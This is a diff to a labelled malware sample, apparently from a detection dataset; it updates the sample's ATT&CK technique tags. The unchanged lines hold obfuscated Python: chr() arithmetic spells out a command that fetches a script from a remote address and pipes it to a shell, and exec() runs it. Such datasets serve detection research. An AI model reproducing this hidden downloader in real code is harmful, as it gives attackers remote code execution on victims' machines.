@@ -1,3 +1,3 @@
-# label: malicious family=obfuscation techniques=T1027,T1140,T1059.006 lines=2-3
+# label: malicious family=obfuscation techniques=T1027,T1059.004,T1059.006,T1105,T1140 lines=2-3
 c = chr(112-7)+chr(116-7)+chr(119-7)+chr(118-7)+chr(121-7)+chr(123-7)+chr(39-7)+chr(118-7)+chr(122-7)+chr(66-7)+chr(118-7)+chr(122-7)+chr(53-7)+chr(122-7)+chr(128-7)+chr(122-7)+chr(123-7)+chr(108-7)+chr(116-7)+chr(47-7)+chr(41-7)+chr(106-7)+chr(124-7)+chr(121-7)+chr(115-7)+chr(39-7)+chr(111-7)+chr(123-7)+chr(123-7)+chr(119-7)+chr(65-7)+chr(54-7)+chr(54-7)+chr(57-7)+chr(55-7)+chr(58-7)+chr(53-7)+chr(55-7)+chr(53-7)+chr(56-7)+chr(56-7)+chr(58-7)+chr(53-7)+chr(62-7)+chr(62-7)+chr(54-7)+chr(121-7)+chr(131-7)+chr(122-7)+chr(111-7)+chr(41-7)+chr(48-7)
 exec(c)
